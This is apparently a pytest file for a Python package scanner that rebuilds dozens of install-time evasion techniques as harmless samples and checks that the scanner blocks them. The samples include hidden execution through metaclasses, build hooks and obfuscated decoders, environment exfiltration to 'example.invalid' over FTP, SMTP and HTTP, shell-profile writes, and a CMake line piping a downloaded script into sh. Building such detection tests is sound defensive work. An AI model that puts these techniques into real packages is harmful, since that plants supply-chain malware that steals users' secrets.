"""Red-team round 4: install-time techniques an attacker who has read the rule table would try
next, each rebuilt as a minimal harmless sample (a decoded `echo hello`, hosts
`example.invalid`). Each hostile setup.py first writes a canary (hostile.py): no scan runs it.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from safepip.checks.install_hooks import InstallHookCheck, scan_path
from safepip.findings import Severity
from tests.checks.hostile import make_sdist
from tests.checks.test_techniques import Technique, _scan

_COMMAND = base64.b64encode(b"echo hello").decode()
_RUN_DECODED = f"import os, base64\nos.system(base64.b64decode('{_COMMAND}'))\n"


def _indented(code: str, depth: int = 2) -> str:
    return "".join(f"{'    ' * depth}{line}\n" for line in code.splitlines())


# Code Python calls without its name being written, in a module setup.py imports.
IMPLICIT_CALLS = (
    Technique(
        "metaclass-new-of-a-class-defined-on-import",
        "import buildmeta\n",
        Severity.CRITICAL,
        {"buildmeta.py": "class Meta(type):\n    def __new__(m, n, b, d):\n"
         + _indented(_RUN_DECODED) + "        return super().__new__(m, n, b, d)\n"
         "class Config(metaclass=Meta):\n    pass\n"},
    ),
    Technique(
        "init-subclass-of-a-base-setup-py-subclasses",
        "from plug import Base\nclass Local(Base):\n    pass\n",
        Severity.CRITICAL,
        {"plug.py": "class Base:\n    def __init_subclass__(cls, **kw):\n"
         + _indented(_RUN_DECODED)},
    ),
    Technique(
        "descriptor-get-of-an-attribute-setup-py-reads",
        "from desc import Info\nv = Info().version\n",
        Severity.CRITICAL,
        {"desc.py": "class Lazy:\n    def __get__(self, obj, owner):\n"
         + _indented(_RUN_DECODED) + "        return '1.0'\nclass Info:\n    version = Lazy()\n"},
    ),
    Technique(
        "module-getattr-answering-a-missing-name",
        "from meta import version\n",
        Severity.CRITICAL,
        {"meta.py": "def __getattr__(name):\n" + _indented(_RUN_DECODED, 1)
         + "    return '1.0'\n"},
    ),
)

_DECODED_CODE = base64.b64encode(b"print('hello')").decode()

# Standard-library calls that run a string as Python: exec under another name.
EXEC_BY_OTHER_NAMES = (
    Technique(
        "timeit-statement",
        f"import timeit\ntimeit.timeit({_RUN_DECODED!r}, number=1)\n",
        Severity.CRITICAL,
    ),
    Technique(
        "profiler-command",
        f"import cProfile\ncProfile.run({_RUN_DECODED!r})\n",
        Severity.CRITICAL,
    ),
    Technique(
        "interactive-interpreter-source-of-a-bound-instance",
        "import code, base64\nshell = code.InteractiveInterpreter()\n"
        f"shell.runsource(base64.b64decode({_DECODED_CODE!r}).decode())\n",
        Severity.CRITICAL,
    ),
)

# A process function reached by a lookup the analysis did not know (`pkgutil.resolve_name`
# takes "module:attribute" and returns the attribute): the hiding alone blocks.
LOOKUPS = (
    Technique(
        "pkgutil-resolve-name",
        "import pkgutil\npkgutil.resolve_name('subprocess:call')('echo hello', shell=True)\n",
    ),
    Technique(
        "pkgutil-resolve-name-dotted-and-bound",
        "import pkgutil\nrun = pkgutil.resolve_name('os.system')\nrun('echo hello')\n",
    ),
)

# The environment sent by a client's own method rather than by `send`/`request`.
_ENV = "json.dumps(dict(os.environ)).encode()"
EXFILTRATION = (
    Technique(
        "ftp-upload-of-the-environment",
        "import os, io, json, ftplib\nftp = ftplib.FTP('example.invalid')\n"
        f"ftp.storbinary('STOR e', io.BytesIO({_ENV}))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "mail-of-the-environment",
        "import os, smtplib\nsmtplib.SMTP('example.invalid').sendmail("
        "'a@example.invalid', ['b@example.invalid'], str(dict(os.environ)))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "rpc-proxy-method-given-the-environment",
        "import os, xmlrpc.client\n"
        "xmlrpc.client.ServerProxy('https://example.invalid/rpc').log(dict(os.environ))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "logger-with-an-http-handler",
        "import os, logging, logging.handlers\nlog = logging.getLogger('b')\n"
        "log.addHandler(logging.handlers.HTTPHandler('example.invalid', '/c', method='POST'))\n"
        "log.error('%s', dict(os.environ))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "own-subclass-of-urllib-opener",
        "import os, json, urllib.request\n"
        "class Opener(urllib.request.OpenerDirector):\n    pass\n"
        "o = Opener()\no.add_handler(urllib.request.HTTPSHandler())\n"
        f"o.open('https://example.invalid/c', data={_ENV})\n",
        Severity.CRITICAL,
    ),
)

# Start-up files changed by standard helpers that are not open() or pathlib.
WRITERS = (
    Technique(
        "fileinput-inplace-rewrites-a-shell-profile",
        "import fileinput, os, sys\n"
        "for line in fileinput.input(os.path.expanduser('~/.bashrc'), inplace=True):\n"
        "    sys.stdout.write(line)\n",
    ),
    Technique(
        "distutils-write-file-into-home",
        "import os\nfrom distutils.file_util import write_file\n"
        "write_file(os.path.expanduser('~/.bash_profile'), ['echo hello'])\n",
    ),
    Technique(
        "distutils-copy-file-into-home",
        "import os\nfrom distutils.file_util import copy_file\n"
        "copy_file('extra.sh', os.path.expanduser('~/.profile'))\n",
        files={"extra.sh": "echo hello\n"},
    ),
)

_SUB = str.maketrans("abcdefghijklmnopqrstuvwxyz", "qwertyuiopasdfghjklzxcvbnm")
_ECHO = "echo hello"

# Commands and code built from numbers or a substitution table instead of written.
DECODERS = (
    Technique(
        "bytes-shifted-item-by-item",
        f"import os\nos.system(bytes(b - 3 for b in {bytes(b + 3 for b in _ECHO.encode())!r})"
        ".decode())\n",
        Severity.CRITICAL,
    ),
    Technique(
        "bytes-shifted-item-by-item-from-a-name",
        f"import os\nD = {bytes(b + 3 for b in _ECHO.encode() * 2)!r}\n"
        "os.system(bytes(b - 3 for b in D).decode())\n",
        Severity.CRITICAL,
    ),
    Technique(
        "struct-pack-of-a-list-of-numbers",
        f"import os, struct\nD = {list(_ECHO.encode())!r}\n"
        "os.system(struct.pack('%dB' % len(D), *D).decode())\n",
        Severity.CRITICAL,
    ),
    Technique(
        "integer-to-bytes",
        "import subprocess\n"
        f"subprocess.call(({int.from_bytes(_ECHO.encode(), 'big')}).to_bytes({len(_ECHO)}, "
        "'big').decode(), shell=True)\n",
        Severity.CRITICAL,
    ),
    Technique(
        "substitution-cipher-through-translate",
        "T = str.maketrans('qwertyuiopasdfghjklzxcvbnm', 'abcdefghijklmnopqrstuvwxyz')\n"
        f"exec({'print(1)'.translate(_SUB)!r}.translate(T))\n",
        Severity.CRITICAL,
    ),
)

_TOUCH = "touch /tmp/demo-canary"

# A shell's command in an argv the analysis read as something else.
ARGV = (
    Technique(
        "posix-spawn-argv",
        f"import os\nos.posix_spawn('/bin/sh', ['sh', '-c', {_TOUCH!r}], dict(os.environ))\n",
    ),
    Technique(
        "asyncio-subprocess-exec-arguments",
        "import asyncio\nasync def main():\n"
        f"    p = await asyncio.create_subprocess_exec('sh', '-c', {_TOUCH!r})\n"
        "    await p.wait()\nasyncio.run(main())\n",
    ),
    Technique(
        "shell-found-on-path",
        f"import shutil, subprocess\nsubprocess.run([shutil.which('sh'), '-c', {_TOUCH!r}])\n",
    ),
)

# A function whose constants are swapped before it runs: the source shows another command.
CODE_REWRITE = (
    Technique(
        "code-replace-of-a-function-constant",
        "import os\ndef tidy():\n    os.system('true')\n"
        "tidy.__code__ = tidy.__code__.replace(co_consts=tuple("
        f"{_ECHO!r} if c == 'true' else c for c in tidy.__code__.co_consts))\ntidy()\n",
    ),
)

_COMMAND_CLASS = (
    "from setuptools import Command\nclass BuildPy(Command):\n    user_options = []\n"
    "    def initialize_options(self):\n        pass\n"
    "    def finalize_options(self):\n        pass\n"
    "    def run(self):\n" + _indented(_RUN_DECODED)
)
_PYPROJECT = (
    "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n"
    "[project]\nname = 'demo'\nversion = '1.0'\n"
)

# Install-time code named by build configuration the scan did not read.
UNREAD_CODE = (
    Technique(
        "pyproject-tool-setuptools-cmdclass",
        "",
        Severity.CRITICAL,
        {"pyproject.toml": _PYPROJECT + "[tool.setuptools.cmdclass]\nbuild_py = 'hooks.BuildPy'\n",
         "hooks.py": _COMMAND_CLASS},
    ),
    Technique(
        "setup-cfg-distutils-commands-entry-point-for-build-py",
        "",
        Severity.CRITICAL,
        {"setup.cfg": "[options.entry_points]\ndistutils.commands =\n"
         "    build_py = tools.hooks:BuildPy\n",
         "tools/__init__.py": "", "tools/hooks.py": _COMMAND_CLASS},
    ),
    Technique(
        "another-setup-script-run-by-sandbox",
        "from setuptools import sandbox\nsandbox.run_setup('sub/setup.py', ['--version'])\n",
        Severity.CRITICAL,
        {"sub/setup.py": _RUN_DECODED},
    ),
)

# Build requirements fetched from a server no index vets: the build installs and runs them.
BUILD_FETCHES = (
    Technique(
        "setup-requires-direct-url",
        "from setuptools import setup\n"
        "setup(name='demo', setup_requires=['helper @ https://example.invalid/h-1.0.tar.gz'])\n",
    ),
    Technique(
        "setup-requires-from-dependency-links",
        "from setuptools import setup\nsetup(name='demo', setup_requires=['helper'],\n"
        "      dependency_links=['https://example.invalid/simple/helper/'])\n",
    ),
    Technique(
        "build-system-requires-direct-url",
        "",
        files={"pyproject.toml": "[build-system]\nrequires = ['setuptools', "
               "'helper @ https://example.invalid/h-1.0.tar.gz']\n"
               "build-backend = 'setuptools.build_meta'\n"},
    ),
)

# The payload kept in a data file and the code only runs what it reads.
DATA_FILE_PAYLOADS = (
    Technique(
        "exec-of-a-json-field",
        "import json\nwith open('build.json') as f:\n    cfg = json.load(f)\nexec(cfg['post'])\n",
        files={"build.json": '{"post": "print(1)"}'},
    ),
    Technique(
        "shell-command-from-a-config-option",
        "import configparser, subprocess\ncp = configparser.ConfigParser()\n"
        "cp.read('setup.cfg')\nsubprocess.call(cp['tool:post']['cmd'], shell=True)\n",
        files={"setup.cfg": "[tool:post]\ncmd = echo hello\n"},
    ),
    Technique(
        "last-line-of-a-text-file-as-the-command",
        "import os\nwith open('requirements.txt') as f:\n    lines = f.read().splitlines()\n"
        "os.system(lines[-1])\n",
        files={"requirements.txt": "six\necho hello\n"},
    ),
    Technique(
        "argv-from-a-json-file",
        "import json, subprocess\nargv = json.load(open('tasks.json'))['post']\n"
        "subprocess.Popen(argv)\n",
        files={"tasks.json": '{"post": ["echo", "hello"]}'},
    ),
)

_TASKS = (
    "import subprocess, shutil\nclass Task:\n    def sh(self, c):\n"
    "        subprocess.call(c, shell=True)\n    def go(self):\n        self.step()\n"
    "def place(src, dst):\n    shutil.copy(src, dst)\n"
)

# The command or path is a literal of setup.py; the call that runs or writes it is in a base
# class or helper of another module of the tree, which only sees a parameter.
SPLIT_ACROSS_MODULES = (
    Technique(
        "command-handed-to-an-inherited-method",
        "from tasks import Task\nclass Prep(Task):\n    def step(self):\n"
        f"        self.sh({_TOUCH!r})\nPrep().go()\n",
        files={"tasks.py": _TASKS},
    ),
    Technique(
        "profile-path-handed-to-a-helper-function",
        "import tasks\ntasks.place('extra.sh', '~/.bashrc')\n",
        files={"tasks.py": _TASKS, "extra.sh": "echo hello\n"},
    ),
)

# Commands and paths assembled by string formatting, a separator constant or a climb out of
# the tree (round 4b, written after the first fixes).
ASSEMBLED = (
    Technique(
        "command-from-str-format",
        "import os\nos.system('{} {}'.format('touch', '/tmp/demo-canary'))\n",
    ),
    Technique(
        "command-from-percent-formatting",
        "import subprocess\n"
        "subprocess.call('%s %s' % ('touch', '/tmp/demo-canary'), shell=True)\n",
    ),
    Technique(
        "command-from-string-template",
        "import os, string\n"
        "os.system(string.Template('$p $f').substitute(p='touch', f='/tmp/demo-canary'))\n",
    ),
    Technique(
        "absolute-path-joined-with-os-sep",
        "import os\nopen(os.sep.join(['', 'tmp', 'demo-canary']), 'w').write('1')\n",
    ),
    Technique(
        "git-hook-written-above-the-tree",
        "import os\nwith open(os.path.join('..', '..', '.git', 'hooks', 'post-checkout'),"
        " 'w') as f:\n    f.write('echo hello')\n",
    ),
    Technique(
        "asyncio-stream-writer-sends-the-environment",
        "import asyncio, os, json\nasync def main():\n"
        "    r, w = await asyncio.open_connection('example.invalid', 443)\n"
        f"    w.write({_ENV})\nasyncio.run(main())\n",
        Severity.CRITICAL,
    ),
)

_COMPUTED_VERSION = _RUN_DECODED + "VERSION = '.'.join(['1', '0'])\n"


def _pyproject(backend: str, requires: str, extra: str) -> str:
    return (f"[build-system]\nrequires = [{requires!r}]\nbuild-backend = {backend!r}\n"
            f"[project]\nname = 'demo'\nversion = '1.0'\n{extra}")


# Code that build configuration makes a backend import or run (round 4c): setuptools' attr:
# directives, hatchling's and pdm-backend's hook files, poetry's build script.
CONFIGURED_CODE = (
    Technique(
        "setup-cfg-version-attr-of-a-computed-value",
        "",
        Severity.CRITICAL,
        {"setup.cfg": "[metadata]\nname = demo\nversion = attr: verpkg.VERSION\n",
         "verpkg.py": _COMPUTED_VERSION},
    ),
    Technique(
        "pyproject-dynamic-version-attr",
        "",
        Severity.CRITICAL,
        {"pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
         "build-backend = 'setuptools.build_meta'\n[project]\nname = 'demo'\n"
         "dynamic = ['version']\n[tool.setuptools.dynamic]\n"
         "version = {attr = 'verpkg.VERSION'}\n",
         "verpkg.py": _COMPUTED_VERSION},
    ),
    Technique(
        "hatch-custom-build-hook-default-file",
        "",
        Severity.CRITICAL,
        {"pyproject.toml": _pyproject("hatchling.build", "hatchling",
                                      "[tool.hatch.build.hooks.custom]\n"),
         "hatch_build.py": "from hatchling.builders.hooks.plugin.interface import "
         "BuildHookInterface\nclass CustomBuildHook(BuildHookInterface):\n"
         "    def initialize(self, version, build_data):\n" + _indented(_RUN_DECODED)},
    ),
    Technique(
        "hatch-version-from-code",
        "",
        Severity.CRITICAL,
        {"pyproject.toml": _pyproject("hatchling.build", "hatchling",
                                      "[tool.hatch.version]\nsource = 'code'\n"
                                      "path = 'src/demo/ver.py'\n"),
         "src/demo/ver.py": _RUN_DECODED + "__version__ = '1.0'\n"},
    ),
    Technique(
        "pdm-build-hook-file",
        "",
        Severity.CRITICAL,
        {"pyproject.toml": _pyproject("pdm.backend", "pdm-backend", ""),
         "pdm_build.py": "def pdm_build_initialize(context):\n" + _indented(_RUN_DECODED, 1)},
    ),
    Technique(
        "poetry-build-script",
        "",
        Severity.CRITICAL,
        {"pyproject.toml": _pyproject("poetry.core.masonry.api", "poetry-core",
                                      "[tool.poetry.build]\nscript = 'build_ext.py'\n"),
         "build_ext.py": _RUN_DECODED},
    ),
    Technique(
        "setup-scripts-named-pip",
        "from setuptools import setup\nsetup(name='demo', scripts=['bin/pip'])\n",
        files={"bin/pip": "print('hello')\n"},
    ),
    Technique(
        "setup-cfg-scripts-named-ls",
        "",
        files={"setup.cfg": "[metadata]\nname = demo\n[options]\nscripts =\n    bin/ls\n",
               "bin/ls": "print('hello')\n"},
    ),
)

# Commands of build scripts in other languages that the build backend runs (meson, CMake).
BUILD_SCRIPTS = (
    Technique(
        "meson-run-command-shell",
        "",
        files={"pyproject.toml": _pyproject("mesonpy", "meson-python", ""),
               "meson.build": f"project('demo', 'c')\nrun_command('sh', '-c', {_TOUCH!r}, "
               "check: false)\n"},
    ),
    Technique(
        "cmake-execute-process-downloader",
        "",
        files={"pyproject.toml": _pyproject("scikit_build_core.build", "scikit-build-core", ""),
               "CMakeLists.txt": "project(demo)\nexecute_process(COMMAND sh -c "
               "\"curl -s https://example.invalid/i.sh | sh\")\n"},
    ),
)

# Round 4d: calls reached through Python's own indirections; the hiding alone blocks.
INDIRECTIONS = (
    Technique("dunder-call-of-a-runner", f"import os\nos.system.__call__({_ECHO!r})\n"),
    Technique(
        "import-module-under-another-name",
        "import importlib\nim = importlib.import_module\n"
        f"im('subprocess').call({_ECHO!r}, shell=True)\n",
    ),
    Technique(
        "function-picked-from-a-module-namespace",
        f"import os\n[f for n, f in vars(os).items() if n == 'system'][0]({_ECHO!r})\n",
    ),
    Technique(
        "breakpoint-hook-swapped",
        f"import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint({_ECHO!r})\n",
    ),
    Technique(
        "python-c-api-runs-a-string",
        f"import ctypes\nctypes.pythonapi.PyRun_SimpleString({_RUN_DECODED.encode()!r})\n",
        Severity.CRITICAL,
    ),
    Technique(
        "exec-inside-a-list-given-to-reduce",
        "import functools\nfunctools.reduce(lambda a, f: f(a), [exec], \"print('hello')\")\n",
    ),
    Technique(
        "logging-dictconfig-factory-names-a-runner",
        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': "
        f"{{'h': {{'()': 'os.system', 'command': {_ECHO!r}}}}}}})\n",
    ),
    Technique(
        "pip-main-in-process-installs-a-url",
        "from pip._internal.cli.main import main\n"
        "main(['install', 'https://example.invalid/helper-1.0.tar.gz'])\n",
    ),
)

BLOCKED = (
    IMPLICIT_CALLS + EXEC_BY_OTHER_NAMES + LOOKUPS + EXFILTRATION + WRITERS + DECODERS + ARGV
    + CODE_REWRITE + UNREAD_CODE + BUILD_FETCHES + DATA_FILE_PAYLOADS + SPLIT_ACROSS_MODULES
    + ASSEMBLED + CONFIGURED_CODE + BUILD_SCRIPTS + INDIRECTIONS
)

# Ordinary build code near these techniques: it must stay below medium.
ORDINARY = (
    Technique(
        "logger-with-a-file-handler-logging-a-setting",
        "import os, logging\nlog = logging.getLogger('b')\n"
        "log.addHandler(logging.FileHandler('build.log'))\n"
        "log.info('building with %s', os.environ.get('CC', 'cc'))\n",
        Severity.INFO,
    ),
    Technique(
        "fileinput-reading-the-tree-and-copy-file-into-build",
        "import fileinput\nfrom distutils.file_util import copy_file\n"
        "for line in fileinput.input('README.rst'):\n    pass\n"
        "copy_file('README.rst', 'build/README.rst')\n",
        Severity.INFO,
    ),
    Technique(
        "name-normalised-by-translate-then-built",
        "import subprocess, sys, struct\n"
        "name = 'demo-ext.core'.translate(str.maketrans('-.', '__'))\n"
        "header = struct.pack('<I', 7)\n"
        "subprocess.check_call([sys.executable, '-m', 'build_helper', name])\n",
        Severity.INFO,
    ),
    Technique(
        "build-tool-found-on-path",
        "import shutil, subprocess\n"
        "subprocess.check_call([shutil.which('cmake'), '-S', '.', '-B', 'build'])\n",
        Severity.INFO,
    ),
    Technique(
        "dependency-links-without-build-requirements",
        "from setuptools import setup\nsetup(name='demo', setup_requires=[],\n"
        "      install_requires=['six'], dependency_links=['https://example.invalid/six'])\n",
        Severity.INFO,
    ),
    Technique(
        "requirements-read-from-a-file-installed-by-a-literal-program",
        "import subprocess, sys\nwith open('requirements.txt') as f:\n"
        "    reqs = f.read().split()\n"
        "subprocess.check_call(['make', '-C', 'ext'] + reqs)\n"
        "exec(open('demo/version.py').read())\n",
        Severity.INFO,
        {"requirements.txt": "six\n", "demo/version.py": "__version__ = '1.0'\n"},
    ),
    Technique(
        "loader-path-read-by-an-elf-reader",
        "import subprocess\nfrom elfreader import ELFFile\n"
        "with open('/bin/true', 'rb') as f:\n    ld = ELFFile(f).interpreter\n"
        "subprocess.run([ld], check=False)\n",
        Severity.INFO,
        {"elfreader.py": "class ELFFile:\n    def __init__(self, f):\n"
         "        self.interpreter = None\n"},
    ),
    Technique(
        "build-commands-and-tree-paths-handed-to-a-helper-module",
        "from tasks import Task, place\nclass Prep(Task):\n    def step(self):\n"
        "        self.sh('make -C ext')\nPrep().go()\nplace('README.rst', 'build/README')\n",
        Severity.INFO,
        {"tasks.py": _TASKS},
    ),
    Technique(
        "formatted-build-commands-and-a-readme-above",
        "import os, subprocess, sys\nlong = open(os.path.join('..', 'README.md')).read()\n"
        "subprocess.check_call('{} -m build_helper --inc {}'.format(sys.executable, 'src'),"
        " shell=True)\n"
        "subprocess.check_call('%s -C %s' % ('make', 'ext'), shell=True)\n",
        Severity.INFO,
    ),
    Technique(
        "plugin-declaring-its-own-commands-for-users",
        "",
        Severity.INFO,
        {"setup.cfg": "[options.entry_points]\ndistutils.commands =\n"
         "    compile_catalog = demo.cmds:Compile\n",
         "demo/__init__.py": "", "demo/cmds.py": "import subprocess\ndef helper():\n"
         "    subprocess.call(['msgfmt', 'x.po'])\n" + _COMMAND_CLASS.replace(
             _indented(_RUN_DECODED), "        pass\n")},
    ),
    Technique(
        "version-attr-of-a-literal-is-read-not-imported",
        "",
        Severity.INFO,
        {"setup.cfg": "[metadata]\nname = demo\nversion = attr: demo.__version__\n",
         "demo/__init__.py": f"import os\nos.system({_TOUCH!r})\n__version__ = '1.0'\n"},
    ),
    Technique(
        "hatch-build-file-without-a-declared-hook",
        "",
        Severity.INFO,
        {"pyproject.toml": _pyproject("hatchling.build", "hatchling", ""),
         "hatch_build.py": f"import os\nos.system({_TOUCH!r})\n"},
    ),
    Technique(
        "meson-and-cmake-build-steps",
        "",
        Severity.INFO,
        {"meson.build": "project('demo', 'c')\nsrc = custom_target(output: '_u.c', command: "
         "[cy.cmd_array(), '-3', '--generate-shared=' + meson.current_build_dir() / '_u.c'])\n"
         "run_command('ln', '-s', '-f', meson.current_source_dir() / 'meson.build', link)\n",
         "CMakeLists.txt": "add_custom_command(TARGET t POST_BUILD COMMAND \"${CMAKE_COMMAND}\""
         " -E copy \"$<TARGET_FILE:t>\" \"$<TARGET_FILE_DIR:t>/t2\")\n"},
    ),
    Technique(
        "logging-config-reduce-and-a-module-listing",
        "import functools, logging.config, operator, os\nlogging.config.dictConfig("
        "{'version': 1, 'handlers': {'h': {'class': 'logging.StreamHandler'}}})\n"
        "total = functools.reduce(operator.add, [1, 2])\n"
        "names = [n for n, f in vars(os).items() if n.startswith('path')]\n",
        Severity.INFO,
    ),
    Technique(
        "decorator-renaming-a-function-code",
        "def named(f):\n    f.__code__ = f.__code__.replace(co_name='build_' + f.__name__)\n"
        "    return f\n@named\ndef ext():\n    pass\n",
        Severity.INFO,
    ),
)


@pytest.mark.parametrize("technique", ORDINARY, ids=lambda t: t.name)
def test_ordinary_build_code_is_not_flagged(technique: Technique, tmp_path: Path) -> None:
    findings = _scan(technique, tmp_path)
    assert all(f.severity < Severity.MEDIUM for f in findings), findings


@pytest.mark.parametrize("technique", BLOCKED, ids=lambda t: t.name)
def test_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
    findings = _scan(technique, tmp_path)
    worst = max((f.severity for f in findings), default=Severity.INFO)
    assert worst >= technique.minimum, findings
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize("technique", BLOCKED + ORDINARY, ids=lambda t: t.name)
def test_prefilter_hides_nothing_at_import_time(technique: Technique, tmp_path: Path) -> None:
    files = {"setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n"}
    files["demo/__init__.py"] = technique.body
    files.update({f"demo/{k}": v for k, v in technique.files.items() if k.endswith(".py")})
    sdist = make_sdist(tmp_path, "demo", "1.0", files)
    filtered = scan_path(sdist, check=InstallHookCheck(prefilter=True))
    complete = scan_path(sdist, check=InstallHookCheck(prefilter=False))
    assert sorted(map(repr, filtered)) == sorted(map(repr, complete))
